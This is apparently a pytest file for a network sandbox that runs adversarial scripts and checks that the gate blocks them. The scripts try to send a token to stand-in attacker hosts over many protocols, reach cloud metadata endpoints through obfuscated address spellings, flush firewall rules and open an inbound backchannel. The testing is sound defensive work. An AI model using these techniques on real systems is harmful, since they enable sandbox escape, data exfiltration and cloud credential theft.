"""Family N: packets that try to avoid the gate. Ids as in the attack catalogue."""
# ruff: noqa: N802

from __future__ import annotations

import os
import signal

import pytest

from tests.adversarial import live
from tests.adversarial.family import ATTACKER, PRELUDE, Ran, Witness, check, inside, outside
from tests.conftest import TIERS, Tier
from tests.kernel.test_watch import titled
from tests.world import ADDRESSES, World

SINK4, SINK6 = ATTACKER
PORTS_UDP = (53, 123, 443, 3478, 1900, 6881)
PORTS_HOST = (
    *(22, 53, 80, 111, 443, 2375, 2376, 3128, 5000, 5432, 6379, 8080, 8888, 9090, 10250, 20256),
)
OUT = ("203.0.113.20", "10.9.9.9", "172.17.0.1", "10.0.0.1", "192.168.122.1")
GROUPS = (
    *(("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900)),
    ("255.255.255.255", 67),
)
SPELLINGS = (
    *("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518"),
    *("[::ffff:a9fe:a9fe]", "169.254.169.254.", "metadata.google.internal"),
    *("[fd00:ec2::254]", "169.254.170.2"),
)
# Address family -> socket types that open. Unix raw is datagram under another name.
SOCKETS = [[1, 1], [1, 2], [1, 3], [1, 5], [2, 1], [2, 2], [10, 1], [10, 2], [16, 2], [16, 3]]

SCRIPTS = {
    "N01": """
for port in (80, 443, 7000):
    say(tcp(SINK4, port, TOK))
say(tcp(SINK6, 443, TOK))
""",
    "N02": f"""
for port in {PORTS_UDP}:
    say(port, attempt(udp, SINK4, port, TOK))
""",
    "N04": """
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    def echo():
        sock = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        return sock.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0]) + TOK.encode(), (SINK4, 0))
    say(attempt(echo))
say(attempt(socket.socket, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) is None)
""",
    "N05": """
for host in (SINK6, f"64:ff9b::{SINK4}", f"::ffff:{SINK4}", "fe80::1%lo"):
    say(host, curl(f"http://[{host}]/{TOK}"))
say(attempt(udp, SINK6, 443, TOK, socket.AF_INET6))
""",
    "N06": """
def crafted():
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 253, 0, bytes(4), socket.inet_aton(SINK4))
    return sock.sendto(head + TOK.encode(), (SINK4, 0))
say(attempt(crafted))
""",
    "N08": """
found = []
for family in range(1, 47):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind, 0).close()
            found.append([family, kind])
        except OSError:
            pass
say({"open": found})
""",
    "N10": """
for kind, protocol in ((1, 132), (2, 136), (6, 33), (3, 47), (3, 4), (3, 253)):
    def send():
        sock = socket.socket(socket.AF_INET, kind, protocol)
        sock.settimeout(2)
        return sock.sendto(TOK.encode(), (SINK4, 443))
    say(protocol, attempt(send))
def fast():
    sock = socket.socket()
    sock.settimeout(2)
    return sock.sendto(TOK.encode(), socket.MSG_FASTOPEN, (SINK4, 443))
say("fast open", attempt(fast))
""",
    "N13": """
def fragments():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, 10, 0)
    return sock.sendto(TOK.encode() + b"A" * 3000 + TOK.encode(), (SINK4, 9))
say(attempt(fragments))
""",
    "N15": f"""
for group, port in {GROUPS}:
    def shout():
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return sock.sendto(TOK.encode(), (group, port))
    say(group, attempt(shout))
""",
    "N16": f"""
for host in OUT:
    for port in {PORTS_HOST}:
        say(host, port, tcp(host, port, f"GET /{{TOK}} HTTP/1.0\\r\\n\\r\\n")["end"])
""",
    "N17": """
say(curl(f"http://127.0.0.1:8080/{TOK}"))
say(curl("-x", PX, f"http://127.0.0.1:8080/{TOK}"))
say(curl("-x", PX, f"http://[::1]:8080/{TOK}"))
say(curl(f"http://host.docker.internal:8080/{TOK}"))
say(curl("-x", PX, f"http://localhost:8080/{TOK}"))
say(curl("--socks5-hostname", f"{PXH}:{PXP}", f"http://localhost:8080/{TOK}"))
""",
    "N18": f"""
for host in {SPELLINGS}:
    url = f"http://{{host}}/metadata/instance?api-version=2021-02-01&{{TOK}}"
    say(host, curl("-H", "Metadata:true", url), curl("-x", PX, "-H", "Metadata:true", url))
""",
    "N20": """
say(tcp(OK, 22, f"SSH-2.0-{TOK}\\r\\n"))
say(shell(f"timeout 5 git ls-remote git://{OK}/{TOK}"))
for port in (25, 465, 587, 9418):
    say(tcp(SINK4, port, TOK + "\\r\\n"))
""",
}


@pytest.fixture(scope="module")
def leaks(world: World) -> Ran:
    return outside(world, SCRIPTS)


@pytest.fixture(scope="module", params=TIERS)
def ran(world: World, request: pytest.FixtureRequest) -> Ran:
    return inside(world, request.param, SCRIPTS)


def test_nothing_of_the_family_left_the_boundary(ran: Ran, leaks: Ran) -> None:
    assert leaks.to(*ATTACKER)
    assert ran.to(*ATTACKER) == []
    assert ran.to(*OUT, "169.254.169.254", "169.254.170.2", "fd00:ec2::254") == []
    assert {packet["protocol"] for packet in ran.packets} <= {6, 17}
    assert {packet["target"] for packet in ran.packets if packet["protocol"] == 17} <= {
        "203.0.113.53"
    }


def test_N01_raw_tcp_to_a_bare_address(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N01")
    for said in case.said:
        assert said["seconds"] < 2
    for port in (80, 443, 7000):
        assert len(ran.denied(address=SINK4, port=port)) >= 1
    assert ran.denied(address=SINK6, port=443)


def test_N02_udp_to_many_ports(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N02")
    assert case.seconds < 2
    for port, end in case.said:
        if port == 53:
            assert ran.questions(name="(malformed)", via="udp") >= 1
        else:
            assert end == "PermissionError 1"
            assert ran.dropped(protocol="udp", destination=SINK4, port=port) == 1


def test_N04_icmp_echo_by_raw_and_by_ping_socket(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N04")
    assert case.said[:2] == ["PermissionError 1"] * 2


def test_N05_ipv6_global_nat64_mapped_link_local(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "N05")
    for address in (SINK6, "64:ff9b::cb00:7142", SINK4, "fe80::1"):
        assert ran.denied(address=address, port=80), address
    assert ran.dropped(protocol="udp", destination=SINK6, port=443) == 1


def test_N06_raw_ipv4_with_its_own_header(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N06")
    assert case.said == ["PermissionError 1"]


def test_N08_sweep_over_address_families_and_types(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N08", control=False)
    assert [17, 3] in leaks["N08"].said[0]["open"], "void: no packet socket even in the open"
    assert case.said == [{"open": SOCKETS}]


def test_N10_other_protocols_and_fast_open(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N10")
    for protocol, end in case.said[:-1]:
        assert isinstance(end, str), f"protocol {protocol} was sent"


def test_N13_fragments(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "N13")
    assert ran.dropped(protocol="udp", destination=SINK4, port=9) == 1


def test_N15_multicast_and_broadcast(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N15")
    assert len(leaks["N15"].packets) == len(GROUPS)
    for group, port in GROUPS:
        assert ran.dropped(protocol="udp", destination=group, port=port) == 1, group
    assert all(isinstance(end, str) for _, end in case.said)


def test_N16_services_of_the_machine_on_all_its_addresses(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "N16")
    assert len(leaks["N16"].arrived) >= len(OUT) * (len(PORTS_HOST) - 2)
    for host in OUT:
        for port in PORTS_HOST:
            if port != 53:
                assert ran.denied(address=host, port=port), f"{host}:{port}"
    assert ran.questions(name="(malformed)", via="tcp") >= len(OUT)


def test_N17_loopback_of_the_machine(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N17")
    assert len(leaks["N17"].arrived) == 6
    assert case.said[0]["code"] == 7  # the boundary's own loopback is empty
    for said in case.said[1:5]:
        assert said["out"].rpartition("\n")[2].startswith("403 ")
    for target in ("127.0.0.1", "::1", "localhost"):
        assert ran.denied(target=target, target_port=8080), target
    assert ran.denied(synthetic="host.docker.internal", port=8080)


def test_N18_metadata_in_every_spelling(ran: Ran, leaks: Ran) -> None:
    check(ran, leaks, "N18")
    assert len(leaks["N18"].arrived) >= len(SPELLINGS)
    # Seven spellings of one address.
    assert len(ran.denied(address="169.254.169.254", port=80)) >= 6
    assert len(ran.denied(target="169.254.169.254")) >= 5
    for address in ("169.254.170.2", "fd00:ec2::254"):
        assert ran.denied(address=address, port=80)
        assert ran.denied(target=address)
    assert ran.denied(synthetic="metadata.google.internal")
    assert ran.denied(target="metadata.google.internal")


def test_N20_ssh_git_and_mail(ran: Ran, leaks: Ran) -> None:
    case = check(ran, leaks, "N20")
    assert "SSH-2.0-sink" in leaks["N20"].said[0]["got"]
    assert not any(said.get("got") for said in case.said)
    assert ran.denied(synthetic="allowed.test", port=22)
    assert ran.denied(synthetic="allowed.test", port=9418)
    for port in (25, 465, 587, 9418):
        assert ran.denied(address=SINK4, port=port), port


RECONFIGURE = (
    *(
        "ip tuntap add t0 mode tun",
        "ip link add v0 type veth peer v1",
        "ip route add unreachable 10.99.0.0/16",
    ),
    *("ip addr add 198.51.100.1/32 dev lo", "ip link set lo mtu 9000"),
    *("nft add table inet t0", "nft flush ruleset", "ip rule add prio 5 lookup main"),
)


def test_N11_devices_routes_rules(world: World, tier: Tier) -> None:
    # In the open every line works, in a namespace of its own: the world has to stay as it is.
    script = f"""
for line in {RECONFIGURE}:
    say(shell(WRAP + line)["code"])
"""
    with live.open_(world) as free:
        done = free.do("WRAP = 'unshare --net '\n" + script)
        assert not any(done), "void: the tools fail in the open"
    held, _ = live.behind(tier)
    with held:
        before = live.enter(held.pid, "nft", "list", "ruleset").out
        links = live.enter(held.pid, "ip", "-o", "link").out
        assert not {0, 127} & set(held.do("WRAP = ''\n" + script))
        assert live.enter(held.pid, "nft", "list", "ruleset").out.split("counter")[0] in before
        assert live.enter(held.pid, "ip", "-o", "link").out == links
        assert held.do('say(curl(f"http://{OK}/")["out"])')[0].startswith("sink GET")
        assert held.end().code == 0


def test_N11_with_every_rule_flushed_there_is_still_no_way_out(world: World, tier: Tier) -> None:
    attack = """
for port in (80, 443):
    say(tcp(SINK4, port, TOK, 1)["end"])
    say(tcp(SINK6, port, TOK, 1)["end"])
    say(attempt(udp, SINK4, port, TOK))
say(ask("203.0.113.53", f"{TOK}.{ZONE}", patience=1))
"""
    with live.open_(world) as free, Witness(world) as witness:
        free.do(attack)
        assert any(free.token in packet["data"] for packet in witness.flush()), "void"
    held, _ = live.behind(tier)
    with held, Witness(world) as witness:
        inside, gate = held.pid, titled(held.process.pid, "gate")
        # The gate would end the run; a gate that stands still must not be what keeps the wall up.
        os.kill(gate, signal.SIGSTOP)
        assert live.enter(inside, "nft", "flush", "ruleset").code == 0
        assert live.enter(inside, "nft", "list", "ruleset").out == ""
        held.do(attack)
        os.kill(gate, signal.SIGCONT)
        packets = witness.flush()
        assert not [packet for packet in packets if packet["target"] in ATTACKER]
        assert not [packet for packet in packets if held.token in packet["data"]]
        assert held.end().code == 120


def test_N22_inbound_as_a_way_back(world: World, tier: Tier) -> None:
    # The server outlives its script, but not the run.
    serve = """
import select
door = socket.create_server(("::", 8000), family=socket.AF_INET6, dualstack_ipv6=True)
life = os.pidfd_open(os.getppid())
if os.fork() == 0:
    os.close(1)
    os.close(2)
    while life not in select.select([door, life], [], [])[0]:
        with door.accept()[0] as peer:
            peer.sendall(TOK.encode())
"""
    addresses = [address.partition("/")[0] for address in ADDRESSES] + ["10.255.0.1", "fd00::1"]
    knock = PRELUDE + f"for host in {addresses}:\n    say(tcp(host, 8000, b'', 2)['got'])\n"
    outer = ["/usr/bin/python3", "-c", knock, "x"]
    with live.open_(world) as free:
        free.do(serve)
        assert free.token in world.run(outer).out, "void: the server does not answer in the open"
    held, _ = live.behind(tier)
    with held:
        held.do(serve)
        assert held.do("say(tcp('127.0.0.1', 8000, b'')['got'])") == [held.token]
        assert held.token not in world.run(outer).out
        assert held.end().code == 0
